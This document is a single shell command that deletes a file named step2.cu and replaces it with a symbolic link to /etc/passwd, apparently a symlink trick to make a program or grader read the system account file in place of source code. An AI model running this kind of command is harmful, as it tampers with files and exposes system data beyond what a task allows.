rm step2.cu && ln -s /etc/passwd step2.cu
